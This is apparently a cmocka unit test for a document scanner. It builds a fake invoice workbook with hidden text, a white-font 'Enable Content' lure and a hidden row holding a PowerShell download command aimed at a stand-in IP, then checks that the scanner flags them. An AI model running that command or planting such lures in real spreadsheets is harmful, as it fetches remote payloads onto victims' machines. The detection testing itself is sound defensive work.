/* Excel workbooks: text hidden by white or tiny fonts (xl/styles.xml) or in hidden rows and
 * columns is found; white headers on a coloured fill and ordinary files stay clean. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char CT[] =
    "<?xml version=\"1.0\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Override PartName=\"/xl/workbook.xml\" "
    "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></"
    "Types>";
static const char WB[] =
    "<?xml version=\"1.0\"?><workbook "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
    "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
    "<sheet name=\"Invoice\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";
static const char WB_RELS[] =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId1\" "
    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
    "Target=\"worksheets/sheet1.xml\"/>"
    "</Relationships>";
/* fonts: 0 default, 1 white, 2 one point; fills: 0 none, 1 gray125, 2 dark blue;
 * cellXfs: 0 plain, 1 white, 2 tiny, 3 white on dark blue */
static const char STYLES[] =
    "<?xml version=\"1.0\"?><styleSheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<fonts count=\"3\"><font><sz val=\"11\"/><color theme=\"1\"/><name val=\"Calibri\"/></font>"
    "<font><sz val=\"11\"/><color rgb=\"FFFFFFFF\"/><name val=\"Calibri\"/></font>"
    "<font><sz val=\"1\"/><color theme=\"1\"/><name val=\"Calibri\"/></font></fonts>"
    "<fills count=\"3\"><fill><patternFill patternType=\"none\"/></fill><fill><patternFill "
    "patternType=\"gray125\"/></fill>"
    "<fill><patternFill patternType=\"solid\"><fgColor rgb=\"FF1F4E79\"/><bgColor "
    "indexed=\"64\"/></patternFill></fill></fills>"
    "<cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"1\" fillId=\"0\"/></cellStyleXfs>"
    "<cellXfs count=\"4\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" xfId=\"0\"/>"
    "<xf numFmtId=\"0\" fontId=\"1\" fillId=\"0\" xfId=\"0\" applyFont=\"1\"/>"
    "<xf numFmtId=\"0\" fontId=\"2\" fillId=\"0\" xfId=\"0\" applyFont=\"1\"/>"
    "<xf numFmtId=\"0\" fontId=\"1\" fillId=\"2\" xfId=\"0\" applyFont=\"1\" "
    "applyFill=\"1\"/></cellXfs></styleSheet>";

#define FILLER                                                                                     \
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt "   \
    "ut labore et dolore "                                                                         \
    "magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut "    \
    "aliquip ex ea commodo "                                                                       \
    "consequat. Duis aute irure dolor in reprehenderit."

static const char SST[] = "<?xml version=\"1.0\"?><sst "
                          "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                          "count=\"4\" uniqueCount=\"4\">"
                          "<si><t>Invoice 2024-11</t></si><si><t>To view this document, click "
                          "Enable Content above</t></si>"
                          "<si><t>" FILLER "</t></si><si><t>Total</t></si></sst>";

static const char SHEET_LURE[] =
    "<?xml version=\"1.0\"?><worksheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<cols><col min=\"4\" max=\"4\" width=\"0\" hidden=\"1\" customWidth=\"1\"/></cols><sheetData>"
    "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>"
    "<row r=\"2\"><c r=\"A2\" s=\"3\" t=\"s\"><v>3</v></c><c r=\"D2\" "
    "t=\"inlineStr\"><is><t>http://198.51.100.71/b</t></is></c></row>"
    "<row r=\"5\"><c r=\"A5\" s=\"1\" t=\"s\"><v>1</v></c></row>"
    "<row r=\"7\"><c r=\"B7\" s=\"2\" t=\"s\"><v>2</v></c></row>"
    "<row r=\"20\" hidden=\"1\"><c r=\"A20\" t=\"inlineStr\"><is><t>cmd /c powershell -w hidden "
    "iwr http://198.51.100.70/a</t></is></c></row>"
    "</sheetData></worksheet>";

/* the same strings, none hidden: the lure is only white on a dark fill, the filler visible */
static const char SHEET_CLEAN[] =
    "<?xml version=\"1.0\"?><worksheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
    "<row r=\"1\"><c r=\"A1\" s=\"3\" t=\"s\"><v>0</v></c><c r=\"B1\" s=\"3\" "
    "t=\"s\"><v>3</v></c></row>"
    "<row r=\"2\"><c r=\"A2\" s=\"3\" t=\"s\"><v>2</v></c><c r=\"B2\" s=\"1\" "
    "t=\"inlineStr\"><is><t>x</t></is></c><c r=\"C2\" s=\"1\"><v>42</v></c></row>"
    "<row r=\"3\" hidden=\"1\"><c r=\"A3\" t=\"inlineStr\"><is><t>helper</t></is></c></row>"
    "</sheetData></worksheet>";

static const char SST_CLEAN[] =
    "<?xml version=\"1.0\"?><sst "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"4\" "
    "uniqueCount=\"4\">"
    "<si><t>Invoice 2024-11</t></si><si><t>unused</t></si><si><t>" FILLER
    "</t></si><si><t>Total</t></si></sst>";

static eg_report *scan_book(const char *sheet, const char *sst, const char *name)
{
    eg_fx_part p[] = {{"[Content_Types].xml", CT, 0},
                      {"xl/workbook.xml", WB, 0},
                      {"xl/_rels/workbook.xml.rels", WB_RELS, 0},
                      {"xl/styles.xml", STYLES, 0},
                      {"xl/sharedStrings.xml", sst, 0},
                      {"xl/worksheets/sheet1.xml", sheet, 0}};
    uint8_t *z;
    size_t len;
    assert_int_equal(eg_fx_zip_stored(p, 6, &z, &len), EG_OK);
    eg_report *r = eg_fx_scan(name, z, len, NULL, 0);
    free(z);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

static void test_hidden_lure(void **state)
{
    (void)state;
    eg_report *r = scan_book(SHEET_LURE, SST, "invoice.xlsx");
    /* the white lure and the one-point filler; the white header on dark blue is not counted */
    assert_true(eg_fx_finding_with(
        r, "OFFICE.HIDDEN_TEXT",
        "in white or tiny fonts: \"To view this document, click Enable Content"));
    assert_false(eg_fx_finding_with(r, "OFFICE.HIDDEN_TEXT", "Total"));
    /* the hidden row and the hidden column */
    assert_true(eg_fx_finding_with(r, "OFFICE.HIDDEN_TEXT", "in hidden rows or columns"));
    assert_true(eg_fx_has_ioc(r, "198.51.100.70"));
    assert_true(eg_fx_has_ioc(r, "198.51.100.71"));
    assert_true(eg_report_has_rule(r, "OFFICE.LURE_ENABLE_CONTENT"));
    bool cmd = false;
    for (size_t i = 0; i < eg_report_finding_count(r); i++)
        cmd |= !strncmp(eg_rule_get(eg_report_finding(r, i)->rule)->id, "CMD.", 4);
    assert_true(cmd);
    eg_report_free(r);
}

static void test_visible_clean(void **state)
{
    (void)state;
    eg_report *r = scan_book(SHEET_CLEAN, SST_CLEAN, "budget.xlsx");
    assert_false(eg_report_has_rule(r, "OFFICE.HIDDEN_TEXT"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_hidden_lure),
        cmocka_unit_test(test_visible_clean),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
